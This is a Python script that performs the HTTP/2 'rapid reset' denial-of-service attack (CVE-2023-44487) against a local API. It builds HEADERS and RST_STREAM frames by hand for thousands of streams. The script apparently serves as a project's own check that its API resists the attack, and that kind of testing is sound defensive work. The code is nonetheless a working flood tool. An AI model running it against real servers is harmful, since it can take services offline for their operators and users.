#!/usr/bin/env python3
"""h2_rapid_reset.py PORT [STREAMS] [PATH] — HTTP/2 "rapid reset" (CVE-2023-44487)
against the API: one cleartext HTTP/2 connection opens STREAMS requests and
cancels each at once (HEADERS then RST_STREAM), never reading a response.
Prints how many streams were sent and whether the server closed the
connection (GOAWAY or EOF). Standard library only: the frames are built by
hand (HPACK literals, no Huffman). Compare the API's
punyaka_postgres_queries_abandoned_total before and after (docs/security.md)."""
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """Literal header field without indexing, indexed name (RFC 7541 6.2.2)."""
    v = value.encode()
    assert index < 15 and len(v) < 127
    return bytes([index]) + bytes([len(v)]) + v


def request_headers(path):
    # static table: 2 = :method GET, 6 = :scheme http, 1 = :authority, 4 = :path
    return b"\x82\x86" + literal(1, "localhost") + literal(4, path)


def main():
    port = int(sys.argv[1])
    streams = int(sys.argv[2]) if len(sys.argv) > 2 else 10000
    path = sys.argv[3] if len(sys.argv) > 3 else "/api/products/?page_size=1&search=x"
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(PREFACE + frame(4, 0, 0, b""))  # empty SETTINGS
    s.setblocking(False)
    sent, closed, t0 = 0, False, time.monotonic()
    batch = []
    for i in range(streams):
        sid = 2 * i + 1
        p = path + ("&n=%d" % i if "?" in path else "?n=%d" % i)
        batch.append(frame(1, 0x5, sid, request_headers(p)))  # END_STREAM | END_HEADERS
        batch.append(frame(3, 0, sid, struct.pack(">I", 8)))  # RST_STREAM CANCEL
        if len(batch) >= 200 or i == streams - 1:
            data = b"".join(batch)
            batch = []
            try:
                s.setblocking(True)
                s.settimeout(5)
                s.sendall(data)
                sent = i + 1
            except OSError:
                closed = True
                break
            s.setblocking(False)
            try:
                while True:  # drain whatever the server sent, look for GOAWAY / EOF
                    got = s.recv(65536)
                    if not got:
                        closed = True
                        break
            except BlockingIOError:
                pass
            except OSError:
                closed = True
            if closed:
                break
    elapsed = time.monotonic() - t0
    if not closed:  # the kernel took every frame; give the server (bounded) time to act on them
        s.setblocking(True)
        s.settimeout(1)
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            try:
                if not s.recv(65536):
                    closed = True
                    break
            except socket.timeout:
                continue
            except OSError:
                closed = True
                break
    print("streams sent %d in %.2f s; server closed the connection: %s" % (sent, elapsed, closed))


if __name__ == "__main__":
    main()
